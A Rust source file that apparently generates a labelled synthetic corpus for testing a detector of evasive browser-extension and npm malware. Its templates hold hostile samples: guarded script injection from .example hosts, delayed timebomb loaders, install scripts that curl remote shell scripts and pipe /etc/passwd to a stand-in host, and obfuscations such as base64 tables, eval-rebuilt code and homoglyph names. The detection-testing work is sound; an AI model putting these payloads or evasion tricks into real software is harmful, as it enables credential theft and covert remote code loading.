//! Seeded synthetic corpora: one evasive sample per taxonomy category, benign look-alikes,
//! obfuscated variants of a timebomb sample, and threshold probes.

use std::collections::BTreeMap;
use std::path::Path;

use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use crate::engine::{ResolverError, ResourceResolver};
use crate::post::EvasionTaxonomy;

use super::ingest::{ingest, EntryPoint, IngestError, Label, Sample, SampleKind};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Transform {
    BinaryArrays,
    DeadCode,
    MultiFileSplit,
    TryCatchWrapping,
    DependencyTreeHiding,
    MultiDependencySplit,
    Encoding,
    SteganographyStringAssembly,
    DynamicCodeModification,
    VisualDeception,
}

impl Transform {
    pub const ALL: [Transform; 10] = [
        Transform::BinaryArrays,
        Transform::DeadCode,
        Transform::MultiFileSplit,
        Transform::TryCatchWrapping,
        Transform::DependencyTreeHiding,
        Transform::MultiDependencySplit,
        Transform::Encoding,
        Transform::SteganographyStringAssembly,
        Transform::DynamicCodeModification,
        Transform::VisualDeception,
    ];

    /// Whether forced execution is expected to notice the transformed sample.
    /// Encoding hides every API name behind a lookup table and dynamic modification builds
    /// the loader at run time, so neither leaves a recognisable API inside a condition.
    pub fn expected_detected(self) -> bool {
        !matches!(self, Transform::Encoding | Transform::DynamicCodeModification)
    }

    pub fn slug(self) -> String {
        serde_json::to_value(self).ok().and_then(|v| v.as_str().map(str::to_string)).unwrap_or_default()
    }
}

fn all_categories() -> Vec<String> {
    EvasionTaxonomy::default().categories.into_iter().map(|c| c.slug).collect()
}

fn default_benign() -> usize {
    10
}

fn default_one() -> usize {
    1
}

fn default_true() -> bool {
    true
}

fn default_seed() -> u64 {
    1
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct GeneratorSpec {
    #[serde(default = "all_categories")]
    pub categories: Vec<String>,
    #[serde(default = "Transform::all_vec")]
    pub transforms: Vec<Transform>,
    #[serde(default = "default_benign")]
    pub benign: usize,
    #[serde(default = "default_one")]
    pub per_category: usize,
    /// Add a sample that returns early before injecting, outside any condition block.
    #[serde(default = "default_true")]
    pub return_first: bool,
    /// Forced-execution counts for which to add threshold probes.
    #[serde(default)]
    pub threshold_probes: Vec<usize>,
    #[serde(default = "default_seed")]
    pub seed: u64,
}

impl Transform {
    fn all_vec() -> Vec<Transform> {
        Transform::ALL.to_vec()
    }
}

impl Default for GeneratorSpec {
    fn default() -> Self {
        GeneratorSpec {
            categories: all_categories(),
            transforms: Transform::ALL.to_vec(),
            benign: default_benign(),
            per_category: 1,
            return_first: true,
            threshold_probes: Vec::new(),
            seed: 1,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct GeneratedSample {
    pub sample: Sample,
    pub category: Option<String>,
    pub transform: Option<Transform>,
    /// Forced execution should trigger on this sample.
    pub expect_detected: bool,
}

/// What `corpus.json` records about each sample.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CorpusEntry {
    pub id: String,
    pub kind: SampleKind,
    pub label: Option<Label>,
    pub category: Option<String>,
    pub transform: Option<Transform>,
    pub expect_detected: bool,
}

#[derive(Debug, Clone, PartialEq)]
pub struct Corpus {
    pub seed: u64,
    pub samples: Vec<GeneratedSample>,
    /// Network fixtures in the resolver's JSON form.
    pub resources: Value,
}

#[derive(Debug, thiserror::Error)]
pub enum CorpusError {
    #[error("{path}: {source}")]
    Io { path: String, source: std::io::Error },
    #[error("{path}: {detail}")]
    Format { path: String, detail: String },
    #[error(transparent)]
    Ingest(#[from] IngestError),
    #[error(transparent)]
    Resolver(#[from] ResolverError),
}

impl Corpus {
    pub fn resolver(&self) -> ResourceResolver {
        ResourceResolver::from_json(&self.resources.to_string()).expect("generated resources are valid")
    }

    pub fn plain_samples(&self) -> Vec<Sample> {
        self.samples.iter().map(|g| g.sample.clone()).collect()
    }

    pub fn get(&self, id: &str) -> Option<&GeneratedSample> {
        self.samples.iter().find(|g| g.sample.id == id)
    }

    pub fn entries(&self) -> Vec<CorpusEntry> {
        self.samples
            .iter()
            .map(|g| CorpusEntry {
                id: g.sample.id.clone(),
                kind: g.sample.kind,
                label: g.sample.label,
                category: g.category.clone(),
                transform: g.transform,
                expect_detected: g.expect_detected,
            })
            .collect()
    }

    /// Sample directories plus `corpus.json` and `resources.json`.
    pub fn write(&self, dir: &Path) -> Result<(), CorpusError> {
        let io = |path: &Path| {
            let path = path.display().to_string();
            move |source| CorpusError::Io { path, source }
        };
        for g in &self.samples {
            let root = dir.join(&g.sample.id);
            for (rel, text) in &g.sample.files {
                let p = root.join(rel);
                if let Some(parent) = p.parent() {
                    std::fs::create_dir_all(parent).map_err(io(parent))?;
                }
                std::fs::write(&p, text).map_err(io(&p))?;
            }
        }
        std::fs::create_dir_all(dir).map_err(io(dir))?;
        let index = json!({ "synthetic": true, "seed": self.seed, "samples": self.entries() });
        let p = dir.join("corpus.json");
        std::fs::write(&p, pretty(&index)).map_err(io(&p))?;
        let p = dir.join("resources.json");
        std::fs::write(&p, pretty(&self.resources)).map_err(io(&p))?;
        Ok(())
    }
}

fn pretty(v: &Value) -> String {
    let mut s = serde_json::to_string_pretty(v).unwrap_or_default();
    s.push('\n');
    s
}

/// Read a corpus written by [`Corpus::write`]: samples (with labels), index and fixtures.
pub fn load_corpus(dir: &Path) -> Result<(Vec<Sample>, Vec<CorpusEntry>, ResourceResolver), CorpusError> {
    let p = dir.join("corpus.json");
    let text =
        std::fs::read_to_string(&p).map_err(|source| CorpusError::Io { path: p.display().to_string(), source })?;
    let index: Value = serde_json::from_str(&text)
        .map_err(|e| CorpusError::Format { path: p.display().to_string(), detail: e.to_string() })?;
    let entries: Vec<CorpusEntry> = serde_json::from_value(index.get("samples").cloned().unwrap_or(Value::Null))
        .map_err(|e| CorpusError::Format { path: p.display().to_string(), detail: e.to_string() })?;
    let mut samples = Vec::new();
    for e in &entries {
        let mut s = ingest(&dir.join(&e.id), e.kind)?;
        s.id = e.id.clone();
        s.label = e.label;
        samples.push(s);
    }
    let resources = dir.join("resources.json");
    let resolver = if resources.is_file() { ResourceResolver::load(&resources)? } else { ResourceResolver::default() };
    Ok((samples, entries, resolver))
}

// ---- templates ---------------------------------------------------------------

const FILLER: &[&str] = &[
    "var counter = 0;",
    "var items = [1, 2, 3];",
    "function add(a, b) { return a + b; }",
    "var total = [4, 5, 6].reduce(function (a, b) { return a + b; }, 0);",
    "var label = 'ready';",
    "var greeting = 'hello ' + 'there';",
    "var squares = [1, 2, 3].map(function (n) { return n * n; });",
];

const PAYLOAD_NAMES: &[&str] = &["p", "lib", "core", "bundle", "main"];

const BROWSER_BODY: &str = "// %TITLE%
%FILLER%
var %V% = '%URL%';
if (%GUARD%) {
  var %EL% = document.createElement('script');
  %EL%.src = %V%;
  document.head.appendChild(%EL%);
}
try {
  %FILLER2%
} catch (err) {
  fetch(%V% + '?fallback=1');
}
";

const TIMEBOMB_BODY: &str = "// %TITLE%
var _paq = (window._paq = window._paq || []);
_paq.push(['trackPageView']);
%FILLER%
(function () {
  setTimeout(function () {
    chrome.storage.local.get('extensionId', function (result) {
      var d = document, g = d.createElement('script'), s = d.getElementsByTagName('script')[0];
      g.src = '%URL%';
      s.parentNode.insertBefore(g, s);
    });
  }, %DELAY%);
})();
try {
  %FILLER2%
} catch (err) {
  fetch('%URL%?fallback=1');
}
";

const SERVER_BODY: &str = "// %TITLE%
%FILLER%
fetch('%FLAGS%').then(function (r) { return r.json(); }).then(function (cfg) {
  if (cfg.remoteConfig === true) {
    var %EL% = document.createElement('script');
    %EL%.src = '%URL%';
    document.head.appendChild(%EL%);
  }
});
try {
  %FILLER2%
} catch (err) {
  fetch('%URL%?fallback=1');
}
";

const NPM_BODY: &str = "// %TITLE%
const %CP% = require('child_process');
%FILLER%
if (%GUARD%) {
  %CP%.exec('curl -s %URL%.sh -o /tmp/%NAME%.sh');
  urlopen('%URL%.js');
}
['m1', 'm2', 'm3'].forEach(function (m) {
  if (m !== 'm0') {
    %CP%.exec('curl -s %URL%-' + m + '.sh');
  }
});
try {
  %FILLER2%
} catch (err) {
  %CP%.exec('curl -s %URL%.sh');
}
";

const PASSWD_BODY: &str = "// %TITLE%
const exec = require('child_process').exec;
const command = 'test -f /etc/passwd ; echo $?';
%FILLER%
exec(command, (error, stdout, _) => {
  if (error) { return; }
  if (stdout == 0) {
    exec('cat /etc/passwd | curl -X POST -d @- %URL%.sh');
    urlopen('%URL%.js');
  }
});
['m1', 'm2', 'm3'].forEach(function (m) {
  if (m !== 'm0') {
    exec('curl -s %URL%-' + m + '.sh');
  }
});
try {
  %FILLER2%
} catch (err) {
  exec('curl -s %URL%.sh');
}
";

/// Guard expressions, per category, that read that category's signals.
fn browser_guard(slug: &str) -> Option<&'static str> {
    Some(match slug {
        "email_login" => "window.isLoggedIn === true || document.title.indexOf('Sign in') >= 0",
        "social_signup" => "location.hostname.indexOf('facebook') !== -1",
        "crypto_wallet" => "typeof window.ethereum !== 'undefined' && window.ethereum.isMetaMask",
        "cookie_timebomb" => "document.cookie.indexOf('installed=') !== -1",
        "country" => "navigator.language === 'ru-RU'",
        "window_size" => "window.innerWidth > 1024 && window.innerHeight > 600",
        "browser_type" => "navigator.userAgent.indexOf('Edg/') !== -1",
        "os_check" => "navigator.platform === 'MacIntel'",
        "open_devtools" => "!window.devtools || window.devtools.isOpen !== true",
        "visitor_id" => "!window.visitorId",
        "recaptcha" => "typeof grecaptcha === 'undefined'",
        "microphone" => "navigator.mediaDevices && navigator.mediaDevices.getUserMedia",
        "phone_type" => "/Android|iPhone/i.test(navigator.userAgent)",
        "key_presses" => "window.lastKeydown && Date.now() - window.lastKeydown < 1000",
        "multiple_keys" => "window.event && window.event.ctrlKey && window.event.shiftKey",
        "mouse_clicks" => "window.clickCount > 3",
        "notification_settings" => "Notification.permission === 'granted'",
        "blocked_sites" => "!/linkedin|medium/.test(location.hostname)",
        "dom" => "document.getElementById('app-root') !== null",
        "random_value" => "Math.random() < 0.1",
        "generic_bot" => "navigator.webdriver !== true",
        _ => return None,
    })
}

fn npm_guard(slug: &str) -> Option<&'static str> {
    Some(match slug {
        "ip_port" => "require('os').networkInterfaces().eth0 !== undefined",
        "runs_in_browser" => "typeof window === 'undefined'",
        "wx_permission" => "require('fs').accessSync('/usr/local/bin', 1) === undefined",
        "local_config" => "require('fs').existsSync(require('os').homedir() + '/.npmrc')",
        _ => return None,
    })
}

struct Gen {
    rng: ChaCha8Rng,
    resources: BTreeMap<String, Value>,
    commands: BTreeMap<String, Value>,
    host: usize,
}

impl Gen {
    fn pick(&mut self, pool: &[&'static str]) -> &'static str {
        pool.choose(&mut self.rng).copied().unwrap_or("")
    }

    fn filler(&mut self) -> String {
        let n = self.rng.gen_range(1..=3);
        (0..n).map(|_| self.pick(FILLER)).collect::<Vec<_>>().join("\n")
    }

    /// A fresh third-party payload URL, registered as a script resource.
    fn payload(&mut self) -> String {
        self.host += 1;
        let name = self.pick(PAYLOAD_NAMES);
        let url = format!("https://static-{}.example/{name}.js", self.host);
        let body = format!("window.payload{} = true;\n", self.host);
        self.resources.insert(url.clone(), json!({"kind": "script", "body": body}));
        self.resources.insert(format!("{url}?*"), json!({"kind": "script", "body": body}));
        url
    }

    fn npm_payload(&mut self) -> String {
        self.host += 1;
        let base = format!("https://pkg-{}.example/stage", self.host);
        let body = format!("var stage{} = true;\n", self.host);
        self.resources.insert(format!("{base}.js"), json!({"kind": "script", "body": body}));
        base
    }

    fn var(&mut self) -> &'static str {
        self.pick(&["loader", "node", "tag", "elem"])
    }

    fn fill(&mut self, template: &str, title: &str, pairs: &[(&str, String)]) -> String {
        let mut s = template.replace("%TITLE%", title);
        let f1 = self.filler();
        let f2 = self.pick(FILLER);
        s = s.replace("%FILLER2%", f2).replace("%FILLER%", &f1);
        for (k, v) in pairs {
            s = s.replace(k, v);
        }
        s
    }
}

fn extension(id: &str, files: Vec<(&str, String)>, entries: &[&str], all_urls: bool, label: Option<Label>) -> Sample {
    let matches = if all_urls { json!(["<all_urls>"]) } else { json!(["https://*.example.com/*"]) };
    let manifest = json!({
        "manifest_version": 3,
        "name": id,
        "version": "1.0.0",
        "content_scripts": [{"matches": matches, "js": entries}],
    });
    let mut map: BTreeMap<String, String> = files.into_iter().map(|(k, v)| (k.to_string(), v)).collect();
    map.insert("manifest.json".into(), pretty(&manifest));
    Sample {
        id: id.to_string(),
        kind: SampleKind::Extension,
        entries: entries.iter().map(|e| EntryPoint { path: e.to_string(), text: map[*e].clone() }).collect(),
        files: map,
        metadata: Some(manifest),
        all_urls,
        commands: Vec::new(),
        label,
    }
}

fn npm_package(id: &str, files: Vec<(&str, String)>, label: Option<Label>) -> Sample {
    let package = json!({"name": id, "version": "1.0.0", "scripts": {"install": "node setup.js"}});
    let mut map: BTreeMap<String, String> = files.into_iter().map(|(k, v)| (k.to_string(), v)).collect();
    map.insert("package.json".into(), pretty(&package));
    Sample {
        id: id.to_string(),
        kind: SampleKind::Npm,
        entries: vec![EntryPoint { path: "setup.js".into(), text: map["setup.js"].clone() }],
        files: map,
        metadata: Some(package),
        all_urls: false,
        commands: vec!["node setup.js".into()],
        label,
    }
}

fn category_sample(g: &mut Gen, slug: &str, id: &str, title: &str) -> Option<GeneratedSample> {
    let malicious = Some(Label::Malicious);
    let sample = if slug == "localstorage_timebomb" {
        let url = g.payload();
        let delay = g.rng.gen_range(86_400_000..200_000_000u64).to_string();
        let text = g.fill(TIMEBOMB_BODY, title, &[("%URL%", url), ("%DELAY%", delay)]);
        extension(id, vec![("content.js", text)], &["content.js"], false, malicious)
    } else if slug == "server_side" {
        let url = g.payload();
        g.host += 1;
        let flags = format!("https://api-{}.example/flags.json", g.host);
        g.resources.insert(flags.clone(), json!({"kind": "text", "body": "{\"remoteConfig\": false}"}));
        let el = g.var().to_string();
        let text = g.fill(SERVER_BODY, title, &[("%URL%", url), ("%FLAGS%", flags), ("%EL%", el)]);
        extension(id, vec![("content.js", text)], &["content.js"], false, malicious)
    } else if slug == "password_path" {
        let url = g.npm_payload();
        g.commands.insert("test -f /etc/passwd ; echo $?".into(), json!({"stdout": "0", "stderr": "", "code": 0}));
        let text = g.fill(PASSWD_BODY, title, &[("%URL%", url)]);
        npm_package(id, vec![("setup.js", text)], malicious)
    } else if let Some(guard) = browser_guard(slug) {
        let url = g.payload();
        let (v, el) = (g.pick(&["src", "target", "remote"]).to_string(), g.var().to_string());
        let text =
            g.fill(BROWSER_BODY, title, &[("%GUARD%", guard.to_string()), ("%URL%", url), ("%V%", v), ("%EL%", el)]);
        extension(id, vec![("content.js", text)], &["content.js"], false, malicious)
    } else {
        let guard = npm_guard(slug)?;
        let url = g.npm_payload();
        let cp = g.pick(&["cp", "proc", "child"]).to_string();
        let name = g.pick(PAYLOAD_NAMES).to_string();
        let text =
            g.fill(NPM_BODY, title, &[("%GUARD%", guard.to_string()), ("%URL%", url), ("%CP%", cp), ("%NAME%", name)]);
        npm_package(id, vec![("setup.js", text)], malicious)
    };
    Some(GeneratedSample { sample, category: Some(slug.to_string()), transform: None, expect_detected: true })
}

fn benign_sample(g: &mut Gen, id: &str) -> GeneratedSample {
    let variant = g.rng.gen_range(0..5);
    let filler = g.filler();
    let helper = "var helperLoaded = true;\n".to_string();
    let sample = match variant {
        0 => {
            let text = format!(
                "{filler}\nvar s = document.createElement('script');\ns.src = chrome.runtime.getURL('lib/helper.js');\ndocument.head.appendChild(s);\n"
            );
            extension(
                id,
                vec![("content.js", text), ("lib/helper.js", helper)],
                &["content.js"],
                false,
                Some(Label::Benign),
            )
        }
        1 => {
            let text = format!(
                "{filler}\nif (document.body) {{\n  var s = document.createElement('script');\n  s.src = chrome.runtime.getURL('lib/helper.js');\n  document.head.appendChild(s);\n}}\n"
            );
            extension(
                id,
                vec![("content.js", text), ("lib/helper.js", helper)],
                &["content.js"],
                true,
                Some(Label::Benign),
            )
        }
        2 => {
            let text = format!(
                "{filler}\nsetTimeout(function () {{\n  var note = document.createElement('div');\n  note.textContent = 'Saved';\n  document.body.appendChild(note);\n}}, 500);\n"
            );
            extension(id, vec![("content.js", text)], &["content.js"], false, Some(Label::Benign))
        }
        3 => {
            let text = format!("{filler}\nvar parsed = eval('({{ a: 1, b: 2 }})');\nvar sum = parsed.a + parsed.b;\n");
            extension(id, vec![("content.js", text)], &["content.js"], false, Some(Label::Benign))
        }
        _ => {
            let text = format!("{filler}\nconst cp = require('child_process');\ncp.execSync('tsc -p .');\n");
            npm_package(id, vec![("setup.js", text)], Some(Label::Benign))
        }
    };
    GeneratedSample { sample, category: None, transform: None, expect_detected: false }
}

fn return_first_sample(g: &mut Gen) -> GeneratedSample {
    let url = g.payload();
    let text = format!(
        "// injection outside the block\nif ($('#joinShoppersIframeDiv').hasClass('joinShoppersIframeDiv'))\n  return;\nvar s = document.createElement('script');\ns.src = '{url}';\ndocument.head.appendChild(s);\n"
    );
    let sample = extension("return-first", vec![("content.js", text)], &["content.js"], false, Some(Label::Malicious));
    GeneratedSample { sample, category: Some("dom".into()), transform: None, expect_detected: false }
}

/// A sample with exactly `forced` marked conditions (each false, so each forces its block)
/// and one unconditional third-party injection.
pub fn threshold_probe(forced: usize) -> (GeneratedSample, Value) {
    let url = "https://static-probe.example/t.js";
    let mut text = String::from("var u = 'https://static-probe.example/t.js';\n");
    for i in 0..forced {
        text.push_str(&format!(
            "if (window.probeFlag{i}) {{\n  document.body.appendChild(document.createElement('span'));\n}}\n"
        ));
    }
    text.push_str("var s = document.createElement('script');\ns.src = u;\ndocument.head.appendChild(s);\n");
    let id = format!("probe-{forced}");
    let sample = extension(&id, vec![("content.js", text)], &["content.js"], false, None);
    let resources = json!({"resources": {url: {"kind": "script", "body": "window.probed = true;\n"}}});
    (GeneratedSample { sample, category: None, transform: None, expect_detected: forced > 0 }, resources)
}

// ---- obfuscation ---------------------------------------------------------------

fn char_codes(s: &str) -> String {
    let codes: Vec<String> = s.chars().map(|c| (c as u32).to_string()).collect();
    format!("String.fromCharCode.apply(null, [{}])", codes.join(", "))
}

fn b64(s: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(s)
}

const DELAY: &str = "93445000";

fn timebomb_core(url_expr: &str, key_expr: &str) -> String {
    format!(
        "setTimeout(function () {{\n  chrome.storage.local.get({key_expr}, function (result) {{\n    var d = document, g = d.createElement('script'), s = d.getElementsByTagName('script')[0];\n    g.src = {url_expr};\n    s.parentNode.insertBefore(g, s);\n  }});\n}}, {DELAY});\n"
    )
}

fn obfuscated(g: &mut Gen, t: Transform) -> GeneratedSample {
    let url = g.payload();
    let quoted = format!("'{url}'");
    let id = format!("obf-{}", t.slug().replace('_', "-"));
    let single = |text: String| vec![("content.js", text)];
    let (files, entries): (Vec<(&str, String)>, Vec<&str>) = match t {
        Transform::BinaryArrays => (single(timebomb_core(&char_codes(&url), &char_codes("extensionId"))), vec!["content.js"]),
        Transform::DeadCode => {
            let core = timebomb_core(&quoted, "'extensionId'");
            let text = format!(
                "function unusedA() {{ var x = 1; return x * 2; }}\nif (false) {{ var never = unusedA(); }}\nvar junk = [1, 2, 3].filter(function (n) {{ return n > 5; }});\n{core}function unusedB(a) {{ return a ? a : null; }}\n"
            );
            (single(text), vec!["content.js"])
        }
        Transform::MultiFileSplit => (
            vec![
                ("part1.js", format!("var TRACKER_URL = {quoted};\nvar TRACKER_KEY = 'extensionId';\n")),
                ("part2.js", timebomb_core("TRACKER_URL", "TRACKER_KEY")),
            ],
            vec!["part1.js", "part2.js"],
        ),
        Transform::TryCatchWrapping => {
            let core = timebomb_core(&quoted, "'extensionId'");
            (single(format!("try {{\n{core}}} catch (e) {{\n  console.log(e);\n}}\n")), vec!["content.js"])
        }
        Transform::DependencyTreeHiding => {
            let core = timebomb_core(&quoted, "'extensionId'");
            let text = format!(
                "function levelC() {{\n{core}}}\nfunction levelB() {{ return levelC(); }}\nfunction levelA() {{ return levelB(); }}\nlevelA();\n"
            );
            (single(text), vec!["content.js"])
        }
        Transform::MultiDependencySplit => (
            vec![
                (
                    "content.js",
                    "var dep = document.createElement('script');\ndep.src = chrome.runtime.getURL('deps/timer.js');\ndocument.head.appendChild(dep);\n"
                        .to_string(),
                ),
                ("deps/timer.js", timebomb_core(&quoted, "'extensionId'")),
            ],
            vec!["content.js"],
        ),
        Transform::Encoding => {
            let table = ["storage", "local", "get", "createElement", "getElementsByTagName", "src", "parentNode", "insertBefore", "extensionId", "script"];
            let encoded: Vec<String> = table.iter().map(|s| format!("'{}'", b64(s))).collect();
            let text = format!(
                "var _t = [{}];\nfunction _k(i) {{ return atob(_t[i]); }}\nvar g = document[_k(3)](_k(9)), s = document[_k(4)](_k(9))[0];\nsetTimeout(function () {{\n  chrome[_k(0)][_k(1)][_k(2)](_k(8), function (n) {{\n    g[_k(5)] = atob('{}');\n    s[_k(6)][_k(7)](g, s);\n  }});\n}}, {DELAY});\n",
                encoded.join(", "),
                b64(&url)
            );
            (single(text), vec!["content.js"])
        }
        Transform::SteganographyStringAssembly => {
            let (a, b) = url.split_at(url.len() / 2);
            let text = format!(
                "var parts = {{ alpha: '{a}', omega: '{b}' }};\nvar assembled = [parts.alpha, parts.omega].join('');\n{}",
                timebomb_core("assembled", "'extension' + 'Id'")
            );
            (single(text), vec!["content.js"])
        }
        Transform::DynamicCodeModification => {
            let text = format!(
                "var stub = function () {{ /*BODY*/ }};\nvar body = \"chrome.storage.local.get('extensionId', function (r) {{ var d = document, g = d.createElement('script'), s = d.getElementsByTagName('script')[0]; g.src = '{url}'; s.parentNode.INSERT(g, s); }});\";\nvar rebuilt = String(stub).replace('/*BODY*/', body.replace('INSERT', 'insert' + 'Before'));\nwindow['ev' + 'al']('window.tick = ' + rebuilt);\nsetTimeout(window.tick, {DELAY});\n"
            );
            (single(text), vec!["content.js"])
        }
        Transform::VisualDeception => {
            let text = format!(
                "/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */\nvar jQuery_min_helpers = {{ version: '3.7.1' }};\n{}",
                timebomb_core(&quoted, "'extensionId'").replace("var d = document", "var \u{0434} = document").replace("d.createElement", "\u{0434}.createElement").replace("d.getElementsByTagName", "\u{0434}.getElementsByTagName")
            );
            (single(text), vec!["content.js"])
        }
    };
    let sample = extension(&id, files, &entries, false, Some(Label::Malicious));
    GeneratedSample {
        sample,
        category: Some("localstorage_timebomb".into()),
        transform: Some(t),
        expect_detected: t.expected_detected(),
    }
}

pub fn generate_corpus(spec: &GeneratorSpec) -> Corpus {
    let mut g = Gen {
        rng: ChaCha8Rng::seed_from_u64(spec.seed),
        resources: BTreeMap::new(),
        commands: BTreeMap::new(),
        host: 0,
    };
    let taxonomy = EvasionTaxonomy::default();
    let mut samples = Vec::new();
    for slug in &spec.categories {
        let Some(cat) = taxonomy.by_slug(slug) else {
            continue;
        };
        for k in 0..spec.per_category.max(1) {
            let id = format!("cat-{:02}-{}-{k}", cat.index, slug.replace('_', "-"));
            if let Some(s) = category_sample(&mut g, slug, &id, &cat.name) {
                samples.push(s);
            }
        }
    }
    for i in 0..spec.benign {
        samples.push(benign_sample(&mut g, &format!("benign-{i:03}")));
    }
    if spec.return_first {
        samples.push(return_first_sample(&mut g));
    }
    for t in &spec.transforms {
        samples.push(obfuscated(&mut g, *t));
    }
    for &k in &spec.threshold_probes {
        let (probe, res) = threshold_probe(k);
        if let Some(Value::Object(m)) = res.get("resources") {
            for (url, v) in m {
                g.resources.insert(url.clone(), v.clone());
            }
        }
        samples.push(probe);
    }
    let resources = json!({"resources": g.resources, "commands": g.commands});
    Corpus { seed: spec.seed, samples, resources }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_category_has_a_template() {
        let c = generate_corpus(&GeneratorSpec {
            benign: 0,
            transforms: Vec::new(),
            return_first: false,
            ..Default::default()
        });
        assert_eq!(c.samples.len(), 28);
        assert!(c.samples.iter().all(|s| s.sample.label == Some(Label::Malicious)));
    }

    #[test]
    fn reproducible() {
        let spec = GeneratorSpec::default();
        let a = generate_corpus(&spec);
        let b = generate_corpus(&spec);
        assert_eq!(a, b);
        let d1 = tempfile::tempdir().unwrap();
        let d2 = tempfile::tempdir().unwrap();
        a.write(d1.path()).unwrap();
        b.write(d2.path()).unwrap();
        for entry in walkdir::WalkDir::new(d1.path()).sort_by_file_name() {
            let entry = entry.unwrap();
            if entry.file_type().is_file() {
                let rel = entry.path().strip_prefix(d1.path()).unwrap();
                assert_eq!(std::fs::read(entry.path()).unwrap(), std::fs::read(d2.path().join(rel)).unwrap());
            }
        }
        let other = generate_corpus(&GeneratorSpec { seed: 2, ..GeneratorSpec::default() });
        assert_ne!(a, other);
    }

    #[test]
    fn round_trip_through_disk() {
        let c = generate_corpus(&GeneratorSpec { threshold_probes: vec![4], ..Default::default() });
        let d = tempfile::tempdir().unwrap();
        c.write(d.path()).unwrap();
        let (samples, entries, _) = load_corpus(d.path()).unwrap();
        assert_eq!(samples.len(), c.samples.len());
        for (s, g) in samples.iter().zip(&c.samples) {
            assert_eq!(s.id, g.sample.id);
            assert_eq!(s.entries, g.sample.entries);
            assert_eq!(s.label, g.sample.label);
        }
        assert_eq!(entries.iter().filter(|e| e.transform.is_some()).count(), 10);
    }

    #[test]
    fn benign_injections_stay_local() {
        let c = generate_corpus(&GeneratorSpec {
            categories: Vec::new(),
            transforms: Vec::new(),
            return_first: false,
            benign: 30,
            ..Default::default()
        });
        for s in &c.samples {
            let text: String = s.sample.entries.iter().map(|e| e.text.as_str()).collect();
            assert!(!text.contains("https://"), "{}", s.sample.id);
        }
    }

    #[test]
    fn spec_from_json_defaults() {
        let spec: GeneratorSpec = serde_json::from_str("{\"categories\": [\"dom\"], \"seed\": 7}").unwrap();
        assert_eq!(spec.transforms.len(), 10);
        assert_eq!(spec.benign, 10);
        assert_eq!(spec.seed, 7);
        assert_eq!(Transform::Encoding.slug(), "encoding");
        assert_eq!(Transform::ALL.iter().filter(|t| t.expected_detected()).count(), 8);
    }
}
